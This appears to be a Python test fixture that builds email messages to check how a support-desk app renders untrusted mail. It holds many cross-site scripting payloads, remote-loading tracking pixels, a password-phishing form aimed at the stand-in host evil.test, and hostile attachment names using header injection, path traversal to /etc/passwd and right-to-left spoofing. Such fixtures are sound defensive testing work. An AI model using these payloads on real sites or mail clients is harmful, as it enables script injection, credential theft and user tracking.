"""Mails that try to run, load, send, hide or steer something where they are shown: what of each, by its name."""

from __future__ import annotations

import base64
from email.message import EmailMessage
from email.policy import SMTP

ALERT = "alert(document.domain)"

BODIES: dict[str, str] = {
    "script": f"<script>{ALERT}</script>",
    "script from elsewhere": '<script src="https://evil.test/x.js"></script>',
    "script in capitals with junk": f"<ScRiPt/x>{ALERT}</sCrIpT  >",
    "script never closed": f"<script>{ALERT}",
    "script in two": f"<scr<script>ipt>{ALERT}</scr</script>ipt>",
    "noscript": f'<noscript><p title="</noscript><img src=x onerror={ALERT}>"></noscript>',
    "svg that loads": f"<svg onload={ALERT}>",
    "svg with a script": f"<svg><script>{ALERT}</script></svg>",
    "svg that animates a link": '<svg><a><animate attributeName=href values="javascript:alert(1)"/>x</a></svg>',
    "svg use": '<svg><use href="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4#x"></use></svg>',
    "svg foreign object": f"<svg><foreignObject><iframe srcdoc='<script>{ALERT}</script>'></foreignObject></svg>",
    "math": '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
    "mutated math": (
        f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={ALERT}&gt;'>"
    ),
    "mutated svg": f"<svg></p><style><a id='</style><img src=1 onerror={ALERT}>'>",
    "mutated form": f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={ALERT}>",
    "mutated title": f"<svg><title><![CDATA[</title><img src=x onerror={ALERT}>]]></title></svg>",
    "mutated list": f"<noembed><img title='</noembed><img src=x onerror={ALERT}>'></noembed>",
    "mutated textarea": f"<textarea><img title='</textarea><img src=x onerror={ALERT}>'></textarea>",
    "template": f"<template><img src=x onerror={ALERT}></template>",
    "onerror": f"<img src=x onerror={ALERT}>",
    "onerror with a slash": f"<img/src=x/onerror={ALERT}>",
    "onmouseover": f"<b onmouseover={ALERT}>hover</b>",
    "onfocus by itself": f"<input autofocus onfocus={ALERT}>",
    "ontoggle": f"<details open ontoggle={ALERT}>x</details>",
    "onbegin by css": "<p style='animation-name:x' onanimationstart=alert(1)>x</p>",
    "javascript link": f'<a href="javascript:{ALERT}">click</a>',
    "javascript link in entities": '<a href="&#106;&#97;vascript&colon;alert(1)">click</a>',
    "javascript link with a tab": '<a href="java&Tab;script:alert(1)">click</a>',
    "javascript link with controls": '<a href="\x01javascript:alert(1)">click</a>',
    "vbscript link": '<a href="vbscript:msgbox(1)">click</a>',
    "data link": '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>',
    "link to a page of ours": '<a href="/case/2611000001/x/close">click</a>',
    "link without a scheme": '<a href="//evil.test/x">click</a>',
    "data picture": '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    "remote picture": '<img src="https://evil.test/seen.gif" width=1 height=1>',
    "remote picture by srcset": '<img srcset="https://evil.test/seen.gif 2x">',
    "picture of another of our pages": '<img src="/desk">',
    "picture element": '<picture><source srcset="https://evil.test/a.webp"><img src="https://evil.test/a.png"></picture>',
    "video": '<video src="https://evil.test/a.mp4" poster="https://evil.test/a.png" autoplay></video>',
    "audio": f"<audio src=x onerror={ALERT}></audio>",
    "css url": '<p style="background:url(https://evil.test/seen.png)">x</p>',
    "css import": '<style>@import "https://evil.test/x.css"; body{display:none}</style>x',
    "css expression": '<p style="width:expression(alert(1))">x</p>',
    "css that covers the page": '<div style="position:fixed;inset:0;z-index:9;background:#fff">Sign in</div>',
    "css escapes": r'<p style="b\61ckground:u\72l(https://evil.test/x)">x</p>',
    "stylesheet": '<link rel="stylesheet" href="https://evil.test/x.css">',
    "prefetch": '<link rel="prefetch" href="https://evil.test/x"><link rel="dns-prefetch" href="//evil.test">',
    "meta refresh": '<meta http-equiv="refresh" content="0;url=https://evil.test/">',
    "meta policy": '<meta http-equiv="Content-Security-Policy" content="script-src \'unsafe-inline\'">',
    "base": '<base href="https://evil.test/"><a href="x">x</a>',
    "form": '<form action="https://evil.test/"><input name="password"><button>Sign in</button></form>',
    "form to ours": '<form action="close" method="post"><button>Yes</button></form>',
    "button for our form": '<button form="x" formaction="https://evil.test/">x</button>',
    "iframe": f'<iframe src="javascript:{ALERT}"></iframe>',
    "iframe with words": f'<iframe srcdoc="<script>{ALERT}</script>"></iframe>',
    "object": '<object data="data:text/html,<script>alert(1)</script>"></object>',
    "embed": '<embed src="https://evil.test/x.swf">',
    "frameset": '<frameset><frame src="https://evil.test/"></frameset>',
    "isindex": f'<isindex action="javascript:{ALERT}" type="image">',
    "id of ours": '<div id="main">x</div><a name="main">y</a><img name="cookie">',
    "class of ours": '<p class="skip" role="alert" aria-label="x">x</p>',
    "closing our tags": "</div></main></body></html><h1>Our page</h1>",
    "comment": f"<!--><img src=x onerror={ALERT}>-->",
    "conditional comment": f"<!--[if gte IE 4]><script>{ALERT}</script><![endif]-->",
    "cdata": f"<![CDATA[<script>{ALERT}</script>]]>",
    "processing instruction": f'<?xml-stylesheet href="javascript:{ALERT}"?>x',
    "null in a tag": f"<scr\x00ipt>{ALERT}</scr\x00ipt>",
    "overlong tag": f"<{'a' * 5000} onclick={ALERT}>x</{'a' * 5000}>",
    "deep nesting": "<div>" * 5000 + f"<img src=x onerror={ALERT}>",
    "attributes without end": f'<a title="x onclick={ALERT}>x',
    "backticks": f"<img src=`x` onerror={ALERT}>",
    "template words": "{{ guest.token }} {% include 'base.html.j2' %} ${7*7}",
    "a picture of a part that is svg": '<img src="cid:svg@x">',
    "a picture of a part that lies": '<img src="cid:lies@x">',
    "a picture with a hostile id": '<img src="cid:&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;">',
}

FILE_NAMES = {
    "with quotes": '"; filename="evil.html',
    "with a line break": "a\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>.txt",
    "with tags": "<img src=x onerror=alert(1)>.html",
    "with a path": "../../../etc/passwd",
    "of Windows": "C:\\Windows\\System32\\con.txt",
    "turned round": "gpj.\u202eexe",
    "in Chinese": "报告 2026.pdf",
    "percent": "100%25%0d%0a.txt",
    "a page": "page.html",
    "a picture that runs": "picture.svg",
}

FIELDS = {
    "subject": f'<script>{ALERT}</script> & "quotes" \'',
    "name": f"<img src=x onerror={ALERT}>",
}

PNG = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
)
SVG = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{ALERT}"><script>{ALERT}</script></svg>'.encode()


def written(
    html: str = "", *, by: str = "Ann <ann@customer.test>", message_id: str = "<h@customer.test>", **fields: str
) -> EmailMessage:
    made = EmailMessage(SMTP)
    made["From"], made["To"], made["Message-ID"] = by, "support@example.com", message_id
    made["Date"] = "Tue, 17 Nov 2026 09:00:00 +0000"
    made["Subject"] = fields.pop("subject", "Formatted")
    for name, value in fields.items():
        made[name.replace("_", "-")] = value
    made.set_content("Plain words.\n")
    if html:
        made.add_alternative(html, subtype="html")
    return made


def with_pictures(made: EmailMessage) -> EmailMessage:
    html = made.get_payload()[1]  # type: ignore[index]
    html.add_related(PNG, "image", "png", cid="<red@x>", filename="red.png")  # type: ignore[union-attr]
    html.add_related(SVG, "image", "svg+xml", cid="<svg@x>", filename="red.svg")  # type: ignore[union-attr]
    html.add_related(SVG, "image", "png", cid="<lies@x>", filename="lies.png")  # type: ignore[union-attr]
    return made
